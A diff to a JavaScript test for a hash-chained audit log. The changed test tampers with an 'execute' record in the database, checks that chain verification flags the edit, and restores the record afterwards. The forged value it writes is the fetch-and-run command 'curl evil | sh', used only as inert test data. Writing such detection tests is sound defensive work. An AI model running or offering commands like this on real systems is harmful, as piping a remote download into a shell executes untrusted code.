@@ -105,16 +105,19 @@ async function seedOnce() {
 
 test('(a) a record edited in place (triggers disabled) is found by seq', async () => {
   await seed();
-  const [orig] = await rows('seq = 37');
+  // an execute record in the middle of the chain, below the checkpoint at 100
+  const [orig] = await rows("seq = (SELECT min(seq) FROM audit_log WHERE seq >= 37 AND record->>'action' = 'execute')");
+  const seq = orig.seq;
+  assert.ok(seq < 100, `seq ${seq}`);
   assert.equal(JSON.parse(orig.record).action, 'execute');
-  await untriggered(`UPDATE audit_log SET record = jsonb_set(record, '{params,code}', '"curl evil | sh"') WHERE seq = 37`);
+  await untriggered(`UPDATE audit_log SET record = jsonb_set(record, '{params,code}', '"curl evil | sh"') WHERE seq = ${seq}`);
   try {
-    await assertDetected(37, /altered|hash/);
+    await assertDetected(seq, /altered|hash/);
     // What an auditor reads is the forged record: only the chain shows it.
-    const res = await server.request('GET', '/v1/audit/37', { key: server.keys.auditor });
+    const res = await server.request('GET', `/v1/audit/${seq}`, { key: server.keys.auditor });
     assert.equal(res.json.record.params.code, 'curl evil | sh');
   } finally {
-    await untriggered(`UPDATE audit_log SET record = ${lit(orig.record)}::jsonb WHERE seq = 37`);
+    await untriggered(`UPDATE audit_log SET record = ${lit(orig.record)}::jsonb WHERE seq = ${seq}`);
   }
   await assertIntact();
 });
